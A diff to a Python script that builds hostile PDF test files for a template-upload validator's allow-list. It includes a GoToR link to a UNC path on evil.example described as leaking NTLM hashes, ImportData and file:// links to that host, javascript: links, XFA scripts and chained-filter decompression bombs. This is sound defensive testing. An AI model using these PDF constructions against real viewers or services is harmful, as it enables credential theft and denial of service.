@@ -23,6 +23,51 @@ CORPUS_CODE, so each would pass the text checks if the structural check let it t
     nested_arrays.pdf        a page dictionary with arrays nested 5,000 deep        too_complex
     pages_10000.pdf          10,000 blank pages sharing one content stream          too_many_pages
     path_traversal.pdf       the valid SOW template; uploaded as ../../etc/passwd.pdf (accepted)
+    links.pdf                the SOW template with what a template may link: /URI (https,
+                             mailto), /GoTo, /Dest, an outline item and a /Next chain (accepted)
+
+Refused by the allow-list of what a signed template needs (R-DOC-1). Files whose line does
+not say "template" are one page of Helvetica text carrying CORPUS_CODE and FTDV-SOW-v1
+(`_text_pdf`), so they too pass the text checks, at about 1 KB each:
+
+    xfa_stream.pdf           the SOW template, /AcroForm /XFA as one stream          xfa
+    xfa_array.pdf            /AcroForm /XFA as an array of packets                   xfa
+    javascript_uri.pdf       a link /URI (javascript:app.alert(1))                   javascript
+    javascript_objstm_orphan.pdf  a JS action nothing reaches, in an object stream   javascript
+    action_gotor_unc.pdf     the SOW template, a link /GoToR to a UNC path           action
+    action_gotoe.pdf         a link /GoToE (a document embedded elsewhere)           action
+    action_uri_file.pdf      a link /URI (file://host/share/...)                     action
+    action_submitform.pdf    a button widget whose /A is /SubmitForm                 action
+    action_importdata.pdf    a link /ImportData from a UNC path                      action
+    action_resetform.pdf     a link /ResetForm (harmless, but no template needs it)  action
+    action_hide.pdf          a link /Hide                                            action
+    action_named.pdf         a link /Named /Print (any viewer menu command)          action
+    action_sound.pdf         a link /Sound                                           action
+    action_movie.pdf         a link /Movie                                           action
+    action_rendition.pdf     a link /Rendition                                       action
+    action_richmedia_execute.pdf  a link /RichMediaExecute                           action
+    action_setocgstate.pdf   a link /SetOCGState                                     action
+    action_trans.pdf         a link /Trans                                           action
+    action_goto3dview.pdf    a link /GoTo3DView                                      action
+    action_unknown.pdf       a link with an action type no standard defines (/Exec)  action
+    action_outline_gotor.pdf an outline item (bookmark) whose /A is /GoToR           action
+    action_next_chain.pdf    a link /URI https, /Next [/GoTo, /SubmitForm]           action
+    media_richmedia.pdf      a /RichMedia annotation                                 multimedia
+    media_screen.pdf         a /Screen annotation                                    multimedia
+    media_renditions.pdf     a /Names /Renditions tree with a media clip             multimedia
+    media_3d.pdf             a /3D annotation with a U3D stream                      multimedia
+    media_movie.pdf          a /Movie annotation                                     multimedia
+    media_sound.pdf          a /Sound annotation                                     multimedia
+    file_attachment.pdf      a /FileAttachment annotation (refused before too)       embedded_file
+    bomb_flate_flate.pdf     an image, [/FlateDecode /FlateDecode] to 768 MiB        too_complex
+    bomb_hex_flate.pdf       [/ASCIIHexDecode /FlateDecode /FlateDecode] to 768 MiB  too_complex
+    bomb_runlength.pdf       [/FlateDecode /RunLengthDecode] to 64 MiB               too_complex
+    bomb_lzw.pdf             [/FlateDecode /LZWDecode] to 44 MiB                     too_complex
+    image_huge.pdf           a JPEG image XObject of 60,000 x 60,000                 image_too_large
+    image_jpeg_header.pdf    /Width 100 /Height 100; its JPEG says 65,000 x 65,000   image_too_large
+    image_jpx_header.pdf     /Width 100 /Height 100; its JPEG 2000 says 50,000 x ... image_too_large
+    image_inline.pdf         an inline image BI /W 40000 /H 40000 ... EI             image_too_large
+    image_tall.pdf           1 x 30,000: few pixels, one side too long               image_too_large
 
 Oversized (> 10 MB), empty and "another voucher's template" uploads are made at test time.
 """
@@ -38,7 +83,7 @@ from collections.abc import Callable
 from datetime import date
 from decimal import Decimal
 from pathlib import Path
-from typing import TYPE_CHECKING
+from typing import TYPE_CHECKING, cast
 
 if TYPE_CHECKING:
     from pypdf import PdfWriter
@@ -47,7 +92,9 @@ ROOT = Path(__file__).resolve().parents[2]
 FILES = Path(__file__).resolve().parent / "files"
 CORPUS_BODY = "7K3MQ9PXH4RTWB2"  # the voucher code's 15 random characters
 BOMB_MIB = 520
+CHAIN_BOMB_MIB = 768  # what the chained-filter bombs decode to
 PAGES = 10_000
+UNC = "\\\\evil.example\\share\\sow.pdf"  # \\evil.example\share\sow.pdf
 
 
 def corpus_code() -> str:
@@ -408,8 +455,398 @@ def build() -> dict[str, bytes]:
         "javascript_objstm.pdf": javascript_in_object_stream(),
         "pages_10000.pdf": many_pages(),
         "path_traversal.pdf": sow,
+        "links.pdf": _rewrite(sow, _allowed_links),
+        "xfa_stream.pdf": _rewrite(sow, _xfa_stream),
+        "action_gotor_unc.pdf": _rewrite(sow, _gotor_link),
+        **allow_list_cases(),
     }
     return files
+
+
+# --- The allow-list: what a signed template needs (R-DOC-1) ---------------------------------
+
+
+def _allowed_links(writer: PdfWriter) -> None:
+    """Everything a template may link, as WeasyPrint writes it: /URI links to https and
+    mailto, a /GoTo and a /Dest link within the document, an outline item with a /GoTo
+    action, and a /URI whose /Next chain goes on with a /GoTo."""
+    from pypdf.generic import (
+        ArrayObject,
+        DictionaryObject,
+        FloatObject,
+        NameObject,
+        NumberObject,
+        PdfObject,
+        TextStringObject,
+    )
+
+    page = writer.pages[0].indirect_reference
+    destination = ArrayObject([page, NameObject("/Fit")])
+
+    def action(kind: str, **entries: object) -> DictionaryObject:
+        action = DictionaryObject(
+            {NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)}
+        )
+        for key, value in entries.items():
+            action[NameObject(f"/{key}")] = (
+                TextStringObject(value) if isinstance(value, str) else cast(PdfObject, value)
+            )
+        return action
+
+    def link(top: int, **entries: object) -> DictionaryObject:
+        annotation = DictionaryObject(
+            {
+                NameObject("/Type"): NameObject("/Annot"),
+                NameObject("/Subtype"): NameObject("/Link"),
+                NameObject("/Rect"): ArrayObject(
+                    [FloatObject(v) for v in (40, top, 300, top + 12)]
+                ),
+                NameObject("/BS"): DictionaryObject({NameObject("/W"): NumberObject(0)}),
+            }
+        )
+        for key, value in entries.items():
+            annotation[NameObject(f"/{key}")] = cast(PdfObject, value)
+        return annotation
+
+    for annotation in (
+        link(700, A=action("/URI", URI="https://vouchers.example.com/vouchers/")),
+        link(680, A=action("/URI", URI="mailto:fasttrack@example.com")),
+        link(660, A=action("/GoTo", D=destination)),
+        link(640, Dest=destination),
+        link(
+            620,
+            A=action(
+                "/URI",
+                URI="https://vouchers.example.com/help",
+                Next=ArrayObject([action("/GoTo", D=destination)]),
+            ),
+        ),
+    ):
+        writer.add_annotation(page_number=0, annotation=annotation)
+    outlines = cast(DictionaryObject, writer.root_object["/Outlines"].get_object())
+    first = cast(DictionaryObject, outlines["/First"].get_object())
+    first[NameObject("/A")] = action("/GoTo", D=destination)
+    del first["/Dest"]
+
+
+def _xfa_stream(writer: PdfWriter) -> None:
+    """An /AcroForm whose /XFA is one XDP stream: an XFA form, with its own scripts."""
+    from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject
+
+    xdp = DecodedStreamObject()
+    xdp.set_data(
+        b'<?xml version="1.0"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">'
+        b'<template><subform><event activity="initialize"><script contentType='
+        b'"application/x-javascript">app.alert(1)</script></event></subform></template>'
+        b"</xdp:xdp>"
+    )
+    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
+        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(xdp)}
+    )
+
+
+def _gotor_link(writer: PdfWriter) -> None:
+    """A link that opens a PDF on a UNC path: Windows sends the user's NTLM hash there."""
+    from pypdf.generic import (
+        ArrayObject,
+        DictionaryObject,
+        FloatObject,
+        NameObject,
+        NumberObject,
+        TextStringObject,
+    )
+
+    annotation = DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Annot"),
+            NameObject("/Subtype"): NameObject("/Link"),
+            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (40, 700, 300, 760)]),
+            NameObject("/Border"): ArrayObject([FloatObject(0)] * 3),
+            NameObject("/A"): DictionaryObject(
+                {
+                    NameObject("/S"): NameObject("/GoToR"),
+                    NameObject("/F"): TextStringObject(UNC),
+                    NameObject("/D"): ArrayObject([NumberObject(0), NameObject("/Fit")]),
+                }
+            ),
+        }
+    )
+    writer.add_annotation(page_number=0, annotation=annotation)
+
+
+def _pdf_unc() -> bytes:
+    """UNC as the body of a PDF literal string (each backslash escaped)."""
+    return UNC.encode().replace(b"\\", b"\\\\")
+
+
+def _text_pdf(
+    *,
+    catalog: bytes = b"",
+    page: bytes = b"",
+    resources: bytes = b"",
+    content: bytes = b"",
+    objects: tuple[bytes, ...] = (),
+) -> bytes:
+    """One A4 page with the line "Template FTDV-SOW-v1 Voucher <CORPUS_CODE>" in Helvetica,
+    so it passes the text checks. `catalog`, `page` and `resources` are more entries for those
+    dictionaries, `content` more page content, `objects` more objects numbered from 6."""
+    text = b"BT /F1 11 Tf 50 780 Td (Template FTDV-SOW-v1 Voucher %s) Tj ET\n" % (
+        corpus_code().encode()
+    )
+    return _classic_pdf(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R" + catalog + b" >>",
+            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
+            b"/Resources << /Font << /F1 5 0 R >>" + resources + b" >>" + page + b" >>",
+            _stream(text + content),
+            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+            *objects,
+        ]
+    )
+
+
+def _link_pdf(action: bytes, *objects: bytes) -> bytes:
+    """`_text_pdf` with one link annotation (object 6) whose /A is `action`."""
+    link = b"<< /Type /Annot /Subtype /Link /Rect [40 700 300 760] /Border [0 0 0] /A %s >>"
+    return _text_pdf(page=b" /Annots [6 0 R]", objects=(link % action, *objects))
+
+
+def _annotation_pdf(annotation: bytes, *objects: bytes) -> bytes:
+    """`_text_pdf` with the annotation `annotation` (object 6) on the page."""
+    return _text_pdf(page=b" /Annots [6 0 R]", objects=(annotation, *objects))
+
+
+def _jpeg_header(width: int, height: int) -> bytes:
+    """The start of a baseline JPEG (SOI, APP0, SOF0) of `width` x `height`, then EOI: enough
+    for a decoder to allocate the picture."""
+    app0 = b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
+    sof0 = b"\xff\xc0\x00\x11\x08" + struct.pack(">HH", height, width) + b"\x03"
+    sof0 += b"\x01\x11\x00\x02\x11\x01\x03\x11\x01"
+    return b"\xff\xd8" + app0 + sof0 + b"\xff\xd9"
+
+
+def _jpx_header(width: int, height: int) -> bytes:
+    """A JPEG 2000 codestream start (SOC, SIZ) of `width` x `height`, one 8-bit component."""
+    siz = struct.pack(">HHIIIIIIIIH", 41, 0, width, height, 0, 0, width, height, 0, 0, 1)
+    return b"\xff\x4f\xff\x51" + siz + b"\x07\x01\x01" + b"\xff\xd9"
+
+
+def _image(data: bytes, *, width: int, height: int, extra: bytes) -> bytes:
+    return _stream(
+        data,
+        b" /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
+        b"/BitsPerComponent 8%s" % (width, height, extra),
+    )
+
+
+def _image_pdf(image: bytes) -> bytes:
+    """`_text_pdf` with `image` (object 6) as /Im1 in the page's resources, not drawn."""
+    return _text_pdf(resources=b" /XObject << /Im1 6 0 R >>", objects=(image,))
+
+
+def _deflate_zeros(mib: int) -> bytes:
+    compressor = zlib.compressobj(9)
+    zeros = bytes(1024 * 1024)
+    parts = [compressor.compress(zeros) for _ in range(mib)]
+    parts.append(compressor.flush())
+    return b"".join(parts)
+
+
+def lzw_zeros(size: int) -> bytes:
+    """LZW (EarlyChange 1, as PDF writes it) of `size` zero bytes, built without the input:
+    on zeros each code stands for one zero more than the one before, and a clear code starts
+    a new table before it is full."""
+    out = bytearray()
+    bits = pending = 0
+
+    def emit(code: int, width: int) -> None:
+        nonlocal bits, pending
+        bits = (bits << width) | code
+        pending += width
+        while pending >= 8:
+            pending -= 8
+            out.append((bits >> pending) & 0xFF)
+        bits &= (1 << pending) - 1
+
+    left, width = size, 9
+    while left > 0:
+        emit(256, width)  # clear: a new table, codes of 9 bits again
+        width, next_code, run = 9, 258, 1
+        emit(0, width)  # one zero
+        left -= 1
+        while left > 0 and next_code < 4000:
+            run = min(run + 1, left)
+            emit(256 + run if run > 1 else 0, width)  # 258 + k stands for k + 2 zeros
+            left -= run
+            next_code += 1  # what the decoder adds after each code
+            if next_code + 1 >= 1 << width and width < 12:  # EarlyChange 1
+                width += 1
+    emit(257, width)  # end of data
+    if pending:
+        out.append((bits << (8 - pending)) & 0xFF)
+    return bytes(out)
+
+
+def allow_list_cases() -> dict[str, bytes]:
+    """The corpus files refused by what a signed template needs (R-DOC-1), built by hand."""
+    code = corpus_code().encode()
+    flate_flate = zlib.compress(_deflate_zeros(CHAIN_BOMB_MIB), 9)
+    runs = zlib.compress(b"\x81\x00" * (512 * 1024), 9)  # each pair: 128 zeros; 64 MiB
+    text = b"BT /F1 11 Tf 50 780 Td (Template FTDV-SOW-v1 Voucher %s) Tj ET" % code
+    xfa = _stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>')
+    media_clip = (
+        b"<< /Type /Rendition /S /MR /C << /Type /MediaClip /S /MCD /CT (video/mp4) "
+        b"/D << /Type /Filespec /F (clip.mp4) >> >> >>"
+    )
+    sound = _stream(b"\x00" * 16, b" /Type /Sound /R 8000 /C 1 /B 8 /E /Raw")
+    return {
+        "xfa_array.pdf": _text_pdf(
+            catalog=b" /AcroForm << /Fields [] /XFA [(template) 6 0 R (datasets) 7 0 R] >>",
+            objects=(xfa, _stream(b"<xfa:datasets/>")),
+        ),
+        "javascript_uri.pdf": _link_pdf(b"<< /S /URI /URI (javascript:app.alert(1)) >>"),
+        "javascript_objstm_orphan.pdf": _objstm_pdf(
+            {3: _stream(text)},
+            [
+                (1, b"<< /Type /Catalog /Pages 2 0 R >>"),
+                (2, b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>"),
+                (
+                    4,
+                    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R "
+                    b"/Resources << /Font << /F1 5 0 R >> >> >>",
+                ),
+                (5, b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"),
+                (6, b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),  # no reference reaches it
+            ],
+        ),
+        "action_gotoe.pdf": _link_pdf(
+            b"<< /S /GoToE /T << /R /C /N (attachment.pdf) >> /D [0 /Fit] >>"
+        ),
+        "action_uri_file.pdf": _link_pdf(b"<< /S /URI /URI (file://evil.example/share/sow.pdf) >>"),
+        "action_submitform.pdf": _text_pdf(
+            catalog=b" /AcroForm << /Fields [6 0 R] >>",
+            page=b" /Annots [6 0 R]",
+            objects=(
+                b"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) "
+                b"/Rect [40 700 300 760] /P 3 0 R /A << /S /SubmitForm "
+                b"/F << /FS /URL /F (https://collect.example.com/form) >> /Flags 4 >> >>",
+            ),
+        ),
+        "action_importdata.pdf": _link_pdf(b"<< /S /ImportData /F (%s) >>" % _pdf_unc()),
+        "action_resetform.pdf": _link_pdf(b"<< /S /ResetForm >>"),
+        "action_hide.pdf": _link_pdf(b"<< /S /Hide /T (signature) /H true >>"),
+        "action_named.pdf": _link_pdf(b"<< /S /Named /N /Print >>"),
+        "action_sound.pdf": _link_pdf(b"<< /S /Sound /Sound 7 0 R >>", sound),
+        "action_movie.pdf": _link_pdf(b"<< /S /Movie /T (clip) /Operation /Play >>"),
+        "action_rendition.pdf": _link_pdf(b"<< /S /Rendition /OP 0 /R 7 0 R >>", media_clip),
+        "action_richmedia_execute.pdf": _link_pdf(
+            b"<< /S /RichMediaExecute /TA 6 0 R /CMD << /C (play) >> >>"
+        ),
+        "action_setocgstate.pdf": _link_pdf(b"<< /S /SetOCGState /State [/OFF] >>"),
+        "action_trans.pdf": _link_pdf(b"<< /S /Trans /Trans << /S /Dissolve >> >>"),
+        "action_goto3dview.pdf": _link_pdf(b"<< /S /GoTo3DView /TA 6 0 R /V /F >>"),
+        "action_unknown.pdf": _link_pdf(b"<< /S /Exec /Cmd (calc.exe) >>"),
+        "action_outline_gotor.pdf": _text_pdf(
+            catalog=b" /Outlines 6 0 R",
+            objects=(
+                b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
+                b"<< /Title (Signatures) /Parent 6 0 R /A << /S /GoToR /F (%s) /D [0 /Fit] >> >>"
+                % _pdf_unc(),
+            ),
+        ),
+        "action_next_chain.pdf": _link_pdf(
+            b"<< /S /URI /URI (https://vouchers.example.com/) "
+            b"/Next [<< /S /GoTo /D [3 0 R /Fit] >> 7 0 R] >>",
+            b"<< /S /SubmitForm /F << /FS /URL /F (https://collect.example.com/) >> >>",
+        ),
+        "media_richmedia.pdf": _annotation_pdf(
+            b"<< /Type /Annot /Subtype /RichMedia /Rect [40 500 300 760] "
+            b"/RichMediaContent << /Assets << /Names [] >> /Configurations [] >> >>"
+        ),
+        "media_screen.pdf": _annotation_pdf(
+            b"<< /Type /Annot /Subtype /Screen /Rect [40 500 300 760] /T (clip) >>"
+        ),
+        "media_renditions.pdf": _text_pdf(
+            catalog=b" /Names << /Renditions << /Names [(clip) 6 0 R] >> >>",
+            objects=(media_clip,),
+        ),
+        "media_3d.pdf": _annotation_pdf(
+            b"<< /Type /Annot /Subtype /3D /Rect [40 500 300 760] /3DD 7 0 R >>",
+            _stream(b"U3D\x00", b" /Type /3D /Subtype /U3D"),
+        ),
+        "media_movie.pdf": _annotation_pdf(
+            b"<< /Type /Annot /Subtype /Movie /Rect [40 500 300 760] /Movie << /F (clip.mov) >> >>"
+        ),
+        "media_sound.pdf": _annotation_pdf(
+            b"<< /Type /Annot /Subtype /Sound /Rect [40 700 60 720] /Sound 7 0 R >>", sound
+        ),
+        "file_attachment.pdf": _annotation_pdf(
+            b"<< /Type /Annot /Subtype /FileAttachment /Rect [40 700 60 720] "
+            b"/FS << /Type /Filespec /F (tool.exe) >> >>"
+        ),
+        "bomb_flate_flate.pdf": _image_pdf(
+            _image(
+                flate_flate,
+                width=1000,
+                height=1000,
+                extra=b" /Filter [/FlateDecode /FlateDecode]",
+            )
+        ),
+        "bomb_hex_flate.pdf": _image_pdf(
+            _image(
+                flate_flate.hex().encode() + b">",
+                width=1000,
+                height=1000,
+                extra=b" /Filter [/ASCIIHexDecode /FlateDecode /FlateDecode]",
+            )
+        ),
+        "bomb_runlength.pdf": _image_pdf(
+            _image(
+                runs,
+                width=1000,
+                height=1000,
+                extra=b" /Filter [/FlateDecode /RunLengthDecode]",
+            )
+        ),
+        "bomb_lzw.pdf": _image_pdf(
+            _image(
+                zlib.compress(lzw_zeros(44 * 1024 * 1024), 9),
+                width=1000,
+                height=1000,
+                extra=b" /Filter [/FlateDecode /LZWDecode]",
+            )
+        ),
+        "image_huge.pdf": _image_pdf(
+            _image(
+                _jpeg_header(60_000, 60_000),
+                width=60_000,
+                height=60_000,
+                extra=b" /Filter /DCTDecode",
+            )
+        ),
+        "image_jpeg_header.pdf": _image_pdf(
+            _image(
+                _jpeg_header(65_000, 65_000), width=100, height=100, extra=b" /Filter /DCTDecode"
+            )
+        ),
+        "image_jpx_header.pdf": _image_pdf(
+            _image(_jpx_header(50_000, 50_000), width=100, height=100, extra=b" /Filter /JPXDecode")
+        ),
+        "image_inline.pdf": _text_pdf(
+            content=b"q 100 0 0 100 50 50 cm BI /W 40000 /H 40000 /CS /G /BPC 8 /F /DCT ID "
+            + _jpeg_header(40_000, 40_000)
+            + b"\nEI Q\n"
+        ),
+        "image_tall.pdf": _image_pdf(
+            _image(
+                zlib.compress(bytes(30_000)),
+                width=1,
+                height=30_000,
+                extra=b" /Filter /FlateDecode",
+            )
+        ),
+    }
 
 
 def main() -> None:
